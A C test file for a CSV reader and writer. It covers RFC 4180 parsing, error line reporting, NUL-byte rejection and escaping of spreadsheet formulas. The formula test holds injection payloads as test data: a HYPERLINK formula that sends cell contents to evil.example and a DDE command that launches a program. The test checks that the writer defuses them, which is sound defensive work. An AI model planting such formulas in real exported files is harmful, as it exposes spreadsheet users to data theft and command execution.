/* test-csv.c — RFC 4180, and every way a file breaks it
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */

#include "config.h"

#include <string.h>

#include "nc-csv.h"
#include "nc-test-util.h"

static GPtrArray *
read_all_n (const char  *text,
            gsize        length,
            GError     **error)
{
  g_autoptr(NcCsvReader) reader = nc_csv_reader_new (text, length);
  g_autoptr(GPtrArray) records = g_ptr_array_new_with_free_func ((GDestroyNotify) g_ptr_array_unref);
  GPtrArray *fields = NULL;
  guint line;

  while (nc_csv_reader_next (reader, &fields, &line, error))
    {
      g_ptr_array_add (fields, g_strdup_printf ("@%u", line));
      g_ptr_array_add (records, fields);
    }
  if (error != NULL && *error != NULL)
    {
      g_prefix_error (error, "%u: ", nc_csv_reader_get_error_line (reader));
      return NULL;
    }
  return g_steal_pointer (&records);
}

static GPtrArray *
read_all (const char  *text,
          GError     **error)
{
  return read_all_n (text, strlen (text), error);
}

/* Records joined as "a|b|@line" and separated by "/". */
static char *
flatten (GPtrArray *records)
{
  GString *text = g_string_new (NULL);

  for (guint i = 0; i < records->len; i++)
    {
      GPtrArray *fields = records->pdata[i];

      if (i > 0)
        g_string_append_c (text, '/');
      for (guint j = 0; j < fields->len; j++)
        g_string_append_printf (text, "%s%s", j > 0 ? "|" : "", (char *) fields->pdata[j]);
    }
  return g_string_free (text, FALSE);
}

static void
test_valid (void)
{
  static const struct
  {
    const char *csv;
    const char *records;
  } cases[] = {
    { "a,b\r\n1,2\r\n", "a|b|@1/1|2|@2" },
    { "a,b\n1,2", "a|b|@1/1|2|@2" },
    { "\xEF\xBB\xBFname\n", "name|@1" },
    { "a,,c\n", "a||c|@1" },
    { "\"x,y\",\"say \"\"hi\"\"\"\n", "x,y|say \"hi\"|@1" },
    { "\"two\nlines\",b\nnext,c\n", "two\nlines|b|@1/next|c|@3" },
    { "\"\",\"\"\n", "||@1" },
    { "Иван,Москва\n", "Иван|Москва|@1" },
    { "a\n\nb\n", "a|@1/|@2/b|@3" },
    { "", "" },
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autoptr(GError) error = NULL;
      g_autoptr(GPtrArray) records = read_all (cases[i].csv, &error);
      g_autofree char *flat = NULL;

      g_assert_no_error (error);
      flat = flatten (records);
      g_assert_cmpstr (flat, ==, cases[i].records);
    }
}

static void
test_invalid (void)
{
  static const struct
  {
    const char *csv;
    int         code;
    const char *starts;   /* the line reported: where the bad record starts */
  } cases[] = {
    { "a,b\n\"open,c\nd,e\n", NC_CSV_ERROR_UNTERMINATED_QUOTE, "2: " },
    { "a,b\n\"x\"y,c\n", NC_CSV_ERROR_TEXT_AFTER_QUOTE, "2: " },
    { "a,b\n1,2\nx\"y,c\n", NC_CSV_ERROR_STRAY_QUOTE, "3: " },
    { "a,b\n1,\xff\xfe\n", NC_CSV_ERROR_INVALID_UTF8, "2: " },
    { "a\n\"multi\nline\xc3\",b\n", NC_CSV_ERROR_INVALID_UTF8, "2: " },
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autoptr(GError) error = NULL;
      g_autoptr(GPtrArray) records = read_all (cases[i].csv, &error);

      g_assert_null (records);
      g_assert_error (error, NC_CSV_ERROR, cases[i].code);
      g_assert_true (g_str_has_prefix (error->message, cases[i].starts));
    }
}

static void
test_write_reads_back (void)
{
  /* A first field that begins with a byte order mark (found by the fuzzer) stays itself. */
  const char *fields[] = { "\xEF\xBB\xBFstarts with a BOM", "plain", "with,comma", "with \"quotes\"", "two\nlines", " padded ", "",
                           "Иван" };
  g_autoptr(GString) out = g_string_new (NULL);
  g_autoptr(GPtrArray) records = NULL;
  g_autoptr(GError) error = NULL;
  GPtrArray *back;

  nc_csv_append_row (out, fields, G_N_ELEMENTS (fields));
  g_assert_true (g_str_has_suffix (out->str, "\r\n"));
  g_assert_true (g_str_has_prefix (out->str, "\"\xEF\xBB\xBFstarts with a BOM\",plain,\"with,comma\",\"with \"\"quotes\"\"\""));

  records = read_all (out->str, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (records->len, ==, 1);
  back = records->pdata[0];
  g_assert_cmpuint (back->len, ==, G_N_ELEMENTS (fields) + 1);
  for (guint i = 0; i < G_N_ELEMENTS (fields); i++)
    g_assert_cmpstr (back->pdata[i], ==, fields[i]);
}

/* A NUL byte would cut a field short without a word: it is an error with the NUL's own
 * line, wherever it is — in a plain field, in a quoted one spanning lines, alone. */
static void
test_nul_refused (void)
{
  static const struct
  {
    const char *csv;
    gsize       length;
    const char *starts;
  } cases[] = {
    { "a,b\n79001112233\0evil,x\n", 22, "2: the text has a NUL byte" },
    { "a\n\"one\ntwo\0\",b\n", 16, "3: the text has a NUL byte" },
    { "a\n\0\n", 4, "2: the text has a NUL byte" },
    { "\0", 1, "1: the text has a NUL byte" },
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autoptr(GError) error = NULL;
      g_autoptr(GPtrArray) records = read_all_n (cases[i].csv, cases[i].length, &error);

      g_assert_null (records);
      g_assert_error (error, NC_CSV_ERROR, NC_CSV_ERROR_NUL);
      g_test_message ("%s", error->message);
      g_assert_true (g_str_has_prefix (error->message, cases[i].starts));
    }
}

/* A cell a spreadsheet would run as a formula is written with a ' in front (OWASP), and
 * reads back as it was; a cell that only looks like a neutralised one gets a ' more. */
static void
test_formulas_neutralised (void)
{
  static const struct
  {
    const char *field;
    const char *written;
  } cases[] = {
    { "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
      "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"" },
    { "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0" },
    { "+79001112233", "'+79001112233" },
    { "-2+3", "'-2+3" },
    { "@SUM(A1:A9)", "'@SUM(A1:A9)" },
    { "\tx", "'\tx" },
    { "\rx", "\"'\rx\"" },
    { "'=already", "''=already" },
    { "''@twice", "'''@twice" },
    { "'plain", "'plain" },
    { "'", "'" },
    { "a=b", "a=b" },
    { "", "" },
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      const char *fields[] = { cases[i].field, "next" };
      g_autoptr(GString) out = g_string_new (NULL);
      g_autoptr(GPtrArray) records = NULL;
      g_autoptr(GError) error = NULL;
      g_autofree char *expected = g_strconcat (cases[i].written, ",next\r\n", NULL);
      GPtrArray *back;

      nc_csv_append_row (out, fields, G_N_ELEMENTS (fields));
      g_assert_cmpstr (out->str, ==, expected);

      records = read_all (out->str, &error);
      g_assert_no_error (error);
      back = records->pdata[0];
      g_assert_cmpstr (back->pdata[0], ==, cases[i].field);
    }
}

int
main (int   argc,
      char *argv[])
{
  g_test_init (&argc, &argv, NULL);

  g_test_add_func ("/csv/valid", test_valid);
  g_test_add_func ("/csv/invalid", test_invalid);
  g_test_add_func ("/csv/write-reads-back", test_write_reads_back);
  g_test_add_func ("/csv/nul-refused", test_nul_refused);
  g_test_add_func ("/csv/formulas-neutralised", test_formulas_neutralised);

  return nc_test_run ();
}
